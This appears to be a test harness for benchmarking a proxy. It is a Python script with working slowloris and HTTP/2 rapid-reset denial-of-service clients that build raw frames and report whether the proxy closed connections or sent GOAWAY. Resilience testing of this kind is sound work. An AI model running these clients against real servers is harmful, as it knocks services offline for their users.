#!/usr/bin/env python3
"""Abusive clients for bench/abuse (standard library only).

  slowloris HOST PORT N SECONDS   hold N connections open, each with an unfinished request head
  rapid-reset HOST PORT N         HTTP/2 (h2c prior knowledge): N x (HEADERS, RST_STREAM) on one connection
Prints one line: what was done and how the proxy reacted.
"""
import socket
import struct
import sys
import time


def slowloris(host, port, n, seconds):
    socks, refused = [], 0
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: abuse\r\n")  # never finished
            socks.append(s)
        except OSError:
            refused += 1
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(1)
    closed = 0
    for s in socks:
        try:
            s.setblocking(False)
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    print(f"slowloris: opened {len(socks)} refused {refused} closed-by-proxy {closed} after {seconds}s")


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def rapid_reset(host, port, n):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))  # preface + empty SETTINGS
    # HPACK: :method GET (2), :scheme http (6), :path / (4), :authority literal (name index 1)
    block = b"\x82\x86\x84\x41\x05abuse"
    sent = 0
    start = time.time()
    try:
        for i in range(n):
            sid = 1 + 2 * i
            s.sendall(frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8)))  # HEADERS + RST(CANCEL)
            sent += 1
    except OSError as e:
        print(f"rapid-reset: connection ended after {sent} resets: {e}")
        return
    s.settimeout(2)
    goaway = False
    try:
        while True:
            data = s.recv(65536)
            if not data:
                break
            if b"\x07\x00\x00\x00\x00\x00" in data:  # a GOAWAY frame header (type 7) seen
                goaway = True
    except OSError:
        pass
    print(f"rapid-reset: sent {sent} HEADERS+RST_STREAM in {time.time() - start:.2f}s, goaway seen: {goaway}")


if __name__ == "__main__":
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if mode == "slowloris":
        slowloris(host, port, int(sys.argv[4]), int(sys.argv[5]))
    elif mode == "rapid-reset":
        rapid_reset(host, port, int(sys.argv[4]))
    else:
        sys.exit("unknown mode " + mode)
